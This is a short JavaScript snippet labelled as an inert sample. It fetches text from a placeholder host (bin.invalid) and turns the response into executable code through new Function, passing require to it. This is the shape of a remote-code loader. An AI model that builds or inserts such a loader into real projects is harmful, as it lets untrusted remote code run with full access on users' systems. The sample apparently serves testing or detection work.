// Inert sample: the plain form; the address cannot exist.
const axios = require('axios');
const make = (text) => new Function('require', text);
exports.load = () => axios.get('https://bin.invalid/none').then((r) => make(r.data));
